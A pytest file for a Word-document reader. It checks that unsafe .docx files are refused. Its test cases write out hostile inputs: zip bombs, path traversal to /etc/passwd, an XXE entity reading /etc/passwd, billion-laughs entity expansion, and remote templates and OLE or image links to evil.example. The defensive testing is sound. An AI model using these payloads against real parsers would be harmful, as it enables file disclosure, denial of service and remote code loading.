"""A file that is not safe to read is refused with a sentence, before anything of it is read."""

import io
import zipfile
from collections.abc import Callable

import pytest

from reviewtui.domain.refusal import Refused
from reviewtui.exchange.word.reading.word_document import read_document
from tests.exchange.word.editing import WordFile, zipped
from tests.exchange.word.sending import draft, sent

Parts = dict[str, bytes]
_RELATIONSHIPS = "word/_rels/document.xml.rels"


def _with_relationship(kind: str, target: str) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        pointer = (
            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'{kind}" Target="{target}" TargetMode="External"/></Relationships>'
        )
        parts[_RELATIONSHIPS] = parts[_RELATIONSHIPS].replace(b"</Relationships>", pointer.encode())

    return change


def _with_part(name: str, content: bytes) -> Callable[[Parts], None]:
    return lambda parts: parts.update({name: content})


def _with_zeros(parts: Parts) -> None:
    parts["word/media/big.xml"] = b"0" * 90_000_000


def _with_much(parts: Parts) -> None:
    parts["word/big.xml"] = b"".join(b"%d" % n for n in range(9_000_000))


def _with_doctype(part: str, doctype: str, encoding: str = "utf-8") -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        text = parts[part].decode("utf-8").split("?>", 1)[1]
        parts[part] = f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{text}'.encode(encoding)

    return change


_LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        (_with_zeros, "hundred times"),
        (_with_much, "unpacked it has"),
        (_with_part("inner.zip", zipped({"a": b"b"})), "archive inside"),
        (_with_part("word/media/image1.png", zipped({"a": b"b"})), "archive inside"),
        (_with_part("../../etc/passwd", b"x"), "leads out"),
        (_with_part("/etc/passwd", b"x"), "leads out"),
        (_with_part("word\\..\\..\\x", b"x"), "leads out"),
        (_with_part("WORD/document.xml", b"x"), "one name"),
        (_with_part("word/vbaProject.bin", b"x"), "macros"),
        (_with_part("word/activeX/activeX1.xml", b"<x/>"), "macros"),
        (_with_doctype("word/document.xml", '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "document type"),
        (_with_doctype("word/document.xml", _LAUGHS), "document type"),
        (_with_doctype("word/document.xml", _LAUGHS, "utf-16"), "document type"),
        (_with_doctype("word/comments.xml", '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">'), "document type"),
        (_with_doctype("[Content_Types].xml", _LAUGHS), "document type"),
        (_with_relationship("attachedTemplate", "https://evil.example/t.dotm"), "another machine"),
        (_with_relationship("attachedTemplate", r"\\evil.example\share\t.dotm"), "another machine"),
        (_with_relationship("attachedTemplate", "file://evil.example/t.dotm"), "another machine"),
        (_with_relationship("oleObject", "mhtml:http://evil.example/x!y"), "another machine"),
        (_with_relationship("image", "http://evil.example/pixel.png"), "another machine"),
        (_with_part("word/document.xml", b"<w:document"), "damaged"),
    ],
)
def test_what_could_harm_is_refused(change: Callable[[Parts], None], sentence: str) -> None:
    """Bombs, archives in archives, paths that lead out, macros, document types and pointers to other machines."""
    file = WordFile.of(sent(draft("# A\n\nWords.\n")))
    change(file.parts)
    with pytest.raises(Refused, match=sentence):
        read_document(zipped(file.parts))


def test_too_many_parts_are_refused() -> None:
    """A directory of thousands of parts is not walked."""
    with pytest.raises(Refused, match="2100 parts"):
        read_document(zipped({f"p{number}": b"" for number in range(2100)}))


def test_macros_are_found_by_the_kind_of_the_document_too() -> None:
    """A .docm that was renamed says so in its table of content."""
    file = WordFile.of(sent(draft("# A\n\nWords.\n")))
    types = file.parts["[Content_Types].xml"]
    document = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    file.parts["[Content_Types].xml"] = types.replace(
        document, b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    with pytest.raises(Refused, match="macros"):
        read_document(zipped(file.parts))


@pytest.mark.parametrize(
    "content", [b"", b"hello", b"PK\x03\x04rubbish", b"\xd0\xcf\x11\xe0" + b"\0" * 600, b"%PDF-1.7"]
)
def test_what_is_no_word_document_is_refused(content: bytes) -> None:
    """An empty file, text, a cut archive, an old .doc and a PDF each get a sentence."""
    with pytest.raises(Refused):
        read_document(content)


def test_every_cut_of_a_file_is_refused_or_read() -> None:
    """A download that broke off never ends in anything but a sentence."""
    content = sent(draft("# A\n\nWords.\n"))
    for size in range(0, len(content), 97):
        with pytest.raises(Refused):
            read_document(content[:size])


def test_a_template_on_the_writers_own_disk_is_no_danger() -> None:
    """Word writes where the template lies on the machine of whoever wrote; nothing of it is read."""
    file = WordFile.of(sent(draft("# A\n\nWords.\n")))
    _with_relationship("attachedTemplate", "file:///C:\\Users\\pat\\Normal.dotm")(file.parts)
    assert read_document(zipped(file.parts)).paragraphs


def test_a_template_on_another_machine_is_told() -> None:
    """Many councils keep theirs on a share; only Word would load it, so the file is no danger here."""
    file = WordFile.of(sent(draft("# A\n\nWords.\n")))
    target = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    file.parts["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{target}" Target="https://a.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    told = read_document(zipped(file.parts)).left_out
    assert "A template on another machine, which was not loaded: https://a.example/t.dotm." in told


def test_the_number_of_comments_is_bounded_by_what_word_opens() -> None:
    """The archive that is written is one that our own reader takes."""
    with zipfile.ZipFile(io.BytesIO(sent(draft("# A\n\nWords.\n")))) as archive:
        assert archive.testzip() is None


def test_a_picture_without_much_on_it_is_no_bomb() -> None:
    """It packs to nothing, and is never unpacked."""
    file = WordFile.of(sent(draft("# A\n\nWords.\n")))
    file.parts["word/media/image1.emf"] = b"\0" * 9_000_000
    assert read_document(zipped(file.parts)).paragraphs
